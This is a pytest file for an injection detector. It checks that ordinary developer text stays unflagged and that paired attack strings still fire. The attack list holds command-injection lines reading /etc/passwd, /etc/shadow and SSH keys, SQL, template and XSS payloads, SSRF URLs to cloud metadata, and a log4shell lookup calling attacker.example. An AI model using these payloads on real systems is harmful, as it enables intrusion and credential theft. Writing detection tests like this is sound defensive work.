"""What developers write (Dockerfiles, database logs, review comments, Markdown, build logs) is
not an attack, and the attacks beside each fix still are. Each pair differs in what makes the
attack: the texts are written for this test, not taken from ``probe_developer_benign.jsonl``."""

from __future__ import annotations

import pytest

from eventguard.runtime.detectors import detector, scan

QUIET = [
    # cmdi: a newline ends a cmd.exe command line, so what only cmd.exe runs is no command there
    ("cmdi", 'FROM alpine:3.19\nCOPY ./src /srv/app\nCMD ["/srv/app/run"]'),
    ("cmdi", "# Slow query\nSET timestamp=1711000000;\nSELECT 1;"),
    ("cmdi", "Notes:\ndel key on the laptop is broken\nstart /min is a flag of start"),
    ("cmdi", "1. open the settings\ntype c:\\ in the address bar"),
    # sqli: an operator in quotes followed by prose after a sentence's punctuation is quoted
    ("sqli", "Is `<=` right? The upper bound is exclusive."),
    ("sqli", "Use '!=' here, not '<>'. Both work but we prefer one style."),
    # sqli: a time or information function named in prose is no call in a query
    ("sqli", 'Routes are registered with @router.get("/") decorators in FastAPI'),
    ("sqli", "Remove the sleep(1) from the retry loop, it slows every test"),
    # sqli: a quoted operator followed by a comma and another quote is an item of a list
    ("sqli", "Uncaught SyntaxError: Unexpected token '<', \"<html>\"... is not valid JSON"),
    ("sqli", "Valid delimiters are '|', ';' and tab"),
    ("sqli", "Which version() does the server report?"),
    ("sqli", "Do we still need the `benchmark(1000)` helper?"),
    # ssti: FreeMarker's ?api is followed by a method; ?api=1 is a URL's query
    ("ssti", "https://maps.example.com/embed?api=2&q=Lisbon"),
    ("ssti", "GET /subscriptions?api-version=2022-12-01 HTTP/1.1"),
    # xss: a comment's end between two words is an arrow
    ("xss", "Flow: draft --> review --> published"),
    ("xss", "Step 3/8 : COPY . .\n ---> 5d1e0f2a9b8c"),
    # ssrf: a database or cache URL is no URL a fetcher speaks; its host decides
    ("ssrf", "REDIS_URL=redis://cache-01.example.com:6379/2"),
    ("ssrf", "Connect with postgres://report:pw@db.example.org:5432/sales?sslmode=require"),
    ("ssrf", "mongodb://atlas-shard-00.example.net:27017/app"),
    # ssti: ${...} that no engine evaluates: shell and Compose defaults, CloudFormation pseudo
    # parameters, Spring placeholders with a default
    ("ssti", "environment:\n  REDIS_HOST: ${REDIS_HOST:-redis}\n  LOG_LEVEL: ${LOG_LEVEL:=info}"),
    ("ssti", 'Value: !Sub "arn:${AWS::Partition}:s3:::logs-${AWS::Region}/*"'),
    ("ssti", "spring.datasource.username=${DB_USER:app}"),
    # code_injection: the JVM's runtime asked for its resources runs nothing
    ("code_injection", "int cpus = Runtime.getRuntime().availableProcessors();"),
    ("code_injection", "Runtime.getRuntime().maxMemory() is 3/4 of the function's memory"),
    # path_traversal: /bin and /sbin hold programs; a shell's path names one
    ("path_traversal", "#!/bin/sh\nexec gunicorn app:app"),
    # path_traversal: a path that ends in a line number is an error's or a frame's location
    ("path_traversal", "PHP Parse error: syntax error in /var/www/site/cart.php on line 31"),
    ("path_traversal", "NoMethodError at /usr/local/apache2/htdocs/app.rb:17:in `call'"),
    ("path_traversal", 'File "/etc/odoo/addons/sale/models.py", line 88, in _compute'),
    ("path_traversal", "Login shell changed to /bin/zsh for user deploy"),
    ("path_traversal", "SHELL=/bin/bash\nPATH=/usr/local/bin:/usr/bin"),
]
STILL_FIRES = [
    ("cmdi", "name\ncat /etc/passwd"),
    ("cmdi", "x\n/usr/bin/id"),
    ("cmdi", "a & copy c:\\windows\\win.ini c:\\inetpub\\wwwroot\\x.txt"),
    ("cmdi", "a|type c:\\boot.ini"),
    ("cmdi", "x && set PATH=c:\\evil"),
    ("cmdi", "a\nwhoami"),
    ("sqli", "x'<'y"),
    ("sqli", "x'<'y' or 1=1"),
    ("sqli", "x'='x') order by 1"),
    ("sqli", "a'<'b')--"),
    ("sqli", "x'='x', 'y"),
    ("sqli", "1'||', '"),
    ("sqli", "abc'='"),
    ("sqli", "1 and sleep(5)"),
    ("sqli", "sleep(5)"),
    ("sqli", "1 rlike sleep(3)"),
    ("sqli", "if(1=1,sleep(5),0)"),
    ("sqli", "1;select pg_sleep(5)"),
    ("sqli", "1 or benchmark(5000000,md5(1))"),
    ("sqli", "1 where version() like 5"),
    ("ssti", "${product?api.getClass().getProtectionDomain()}"),
    ("ssti", '<#assign uri=object?api.class.getResource("/").toURI()>'),
    ("ssti", "x?api.getClassLoader()"),
    ("xss", "--><svg onload=alert(1)>"),
    ("xss", "-->"),
    ("xss", "x -->{}"),
    ("xss", "a --> <b>bold</b>"),
    ("ssrf", "redis://127.0.0.1:6379/0"),
    ("ssrf", "postgres://admin@169.254.169.254/"),
    ("ssrf", "mysql://root@[::1]:3306/mysql"),
    ("ssrf", "memcached://10.0.0.7:11211"),
    ("ssrf", "gopher://db.example.com:6379/_FLUSHALL"),
    ("ssrf", "dict://cache.example.com:11211/stats"),
    ("ssti", "${env:AWS_SESSION_TOKEN}"),
    ("ssti", "${sys:user.home}"),
    ("ssti", "${7*7}"),
    ("ssti", "${x:-$(id)}"),
    ("ssti", "${session.getClass()}"),
    ("log4shell", "${${x:-j}ndi:ldap://attacker.example/a}"),
    ("code_injection", "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}"),
    ("code_injection", "r = Runtime.getRuntime(); r.exec(cmd)"),
    ("path_traversal", "/bin/../etc/shadow"),
    ("path_traversal", "/var/www/site/config.php"),
    ("path_traversal", "see /var/www/site/cart.php:31 then /etc/shadow"),
    ("path_traversal", "file=/etc/passwd"),
    ("path_traversal", "/root/.ssh/id_rsa"),
    ("cmdi", "; /bin/cat /etc/hosts"),
    ("cmdi", "|/bin/sh -i"),
]


@pytest.mark.parametrize(("rule", "text"), QUIET)
def test_developer_text_is_quiet(rule: str, text: str) -> None:
    assert detector(rule).detect(text) is None


@pytest.mark.parametrize(("rule", "text"), STILL_FIRES)
def test_the_attack_beside_it_still_fires(rule: str, text: str) -> None:
    assert detector(rule).detect(text) is not None
    assert rule in {r for r, _ in scan(text)}
